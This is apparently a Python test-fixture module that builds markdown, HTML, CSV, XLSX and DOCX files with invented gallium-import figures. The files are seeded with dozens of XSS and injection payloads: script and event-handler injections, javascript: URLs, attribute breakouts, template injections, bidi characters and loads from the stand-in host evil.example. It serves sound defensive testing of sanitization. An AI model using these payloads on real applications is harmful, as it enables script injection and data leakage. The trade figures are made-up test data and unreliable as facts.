"""Documents, names and questions that would like to run, to fetch, or to cover the page."""

from __future__ import annotations

import io
import re

from made_documents import PAYLOADS

MORE = (
    "<svg><script>window.ran=20</script></svg>",
    "<svg><animate onbegin=window.ran=21 attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:window.ran=22'><text y=20>evil</text></a></svg>",
    "<svg><use href='http://evil.example/s.svg#x'/></svg>",
    "<math><maction actiontype='statusline#evil' xlink:href='javascript:window.ran=23'>x</maction></math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=24>",
    "<iframe srcdoc='<script>parent.ran=25</script>'></iframe>",
    "`${Object.assign(window,{ran:26})}`",
    "{{{window.ran=27}}} {{#each this}}{{this}}{{/each}} {% raw %}",
    '<a href="JaVaScRiPt:window.ran=28">evil link</a>',
    "<a href='&#106;avascript:window.ran=29'>evil link</a>",
    "<div style='background:url(http://evil.example/b.png)'>evil</div>",
    "<style>@import 'http://evil.example/i.css'; * { background: url(//evil.example/c.png) }</style>",
    "<link rel=stylesheet href=http://evil.example/l.css><link rel=prefetch href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'>",
    "<img src='http://evil.example/dangling?",
    '"><img src=x onerror=window.ran=30>',
    "'><img src=x onerror=window.ran=31>",
    "' onmouseover='window.ran=32' autofocus onfocus='window.ran=33' x='",
    '" onfocus="window.ran=34" tabindex="0" autofocus="',
    "</textarea></template></title></style></script><img src=x onerror=window.ran=35>",
    "--><!-- <img src=x onerror=window.ran=36> -->",
    "]]><![CDATA[<img src=x onerror=window.ran=37>]]>",
    "<object data='http://evil.example/o'></object><embed src='http://evil.example/e'>",
    "<video><source onerror=window.ran=38></video><audio src=http://evil.example/a autoplay>",
    "<button formaction='javascript:window.ran=39'>evil</button><input type=image src=//evil.example/x>",
    "<dialog open id=help>evil</dialog><p id=desk data-source=open>evil</p>",
    "<p data-send=remove data-open='src/x/1-2' data-do=theme data-focus data-url='view=evil'>evil</p>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=40>'>",
    "<x-element is=evil onclick=window.ran=41>evil</x-element>",
    "\u202eevil turned round\u202c and \u2066isolated\u2069 and \u200bnothing\ufeff",
    "=HYPERLINK('http://evil.example/','evil')",
)
"""What more there is than `made_documents.PAYLOADS`."""
EVERY = PAYLOADS + MORE
SHORT = tuple(one for one in EVERY if "\n" not in one and len(one) < 200 and one.isprintable())
"""Those that can be a title, a cell or a part of a question."""
NAMES = (
    "<img src=x onerror=window.ran=50>",
    "&lt;svg onload=window.ran=51&gt;",
    "${window.ran=52}",
    "{{7*7}}'\"",
)
"""Those that can be the name of a file."""
LONG = "W" + "o" * 600 + "rd"
PLACES = tuple(re.sub(r"ran ?= ?[0-9]+", "ran=self", one) for one in SHORT)
"""Those that can be a partner: a number in its name would be one without proof."""


def files() -> dict[str, bytes]:
    """Files of several kinds that hold all of them, with figures about gallium so that answers quote them."""
    made = {f"{name}.md": _news(at) for at, name in enumerate(NAMES)}
    made |= {f"news{at}.md": _news(at) for at in range(len(NAMES), len(SHORT))}
    lines = [
        f"Japan received {2_000 + at} kilograms of gallium in June 2025. {text}"
        for at, text in enumerate(EVERY)
    ]
    made[f"{LONG[:200]}.md"] = f"---\ntitle: {LONG}\npublisher: {LONG}\n---\n{LONG} {LONG}\n".encode()
    made["all.txt"] = "\n\n".join(lines).encode()
    made["all.html"] = ("<title>All</title><p>" + "</p><p>".join(map(_entities, lines)) + "</p>").encode()
    rows = [
        ("period", "flow", "reporter", "partner", "commodity", "quantity", "unit", *SHORT[:3]),
        *(("2025-07", "export", "China", place, "gallium", str(900 + at), "kg", *SHORT[at : at + 3])
          for at, place in enumerate(("Japan", "Germany", LONG, *PLACES))),
        *(("2025-07", "export", "China", "Japan", text, str(700 + at), "kg", "", "", "")
          for at, text in enumerate(PLACES)),
    ]  # fmt: skip
    made["table.csv"] = _csv(rows)
    made["table.xlsx"] = _xlsx(rows)
    made["page.docx"] = _docx(SHORT)
    return made


def _news(at: int) -> bytes:
    title, publisher, url = (SHORT[(at + shift) % len(SHORT)] for shift in (0, 1, 9))
    urls = (
        "javascript:window.ran=60",
        "data:text/html,<script>window.ran=61</script>",
        "//evil.example/",
        url,
    )
    quoted = [one.replace("'", "''") for one in (title, publisher, urls[at % len(urls)])]
    return (
        "---\ntitle: '{}'\npublisher: '{}'\nurl: '{}'\ndate: 2025-07-20\n---\n".format(*quoted)
        + f"## {title}\n\nJapan received {3_000 + at} kilograms of gallium in June 2025, {publisher} said.\n"
    ).encode()


def _entities(text: str) -> str:
    return "".join(f"&#{ord(one)};" if one in "<>&\"'" else one for one in text)


def _csv(rows: list[tuple[str, ...]]) -> bytes:
    import csv

    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def _xlsx(rows: list[tuple[str, ...]]) -> bytes:
    from openpyxl import Workbook

    book, out = Workbook(), io.BytesIO()
    sheet = book.active
    for number, row in enumerate(rows, 1):
        for column, value in enumerate(row, 1):
            cell = sheet.cell(number, column, value)
            cell.data_type = "s"  # else "=..." were a formula
    book.save(out)
    return out.getvalue()


def _docx(texts: tuple[str, ...]) -> bytes:
    import docx

    document, out = docx.Document(), io.BytesIO()
    document.core_properties.title = texts[0]
    for text in texts:
        document.add_paragraph(f"France received 11 kilograms of gallium in June 2025. {text}")
    table = document.add_table(rows=2, cols=2)
    for cell, text in zip((cell for row in table.rows for cell in row.cells), texts, strict=False):
        cell.text = text
    document.save(out)
    return out.getvalue()
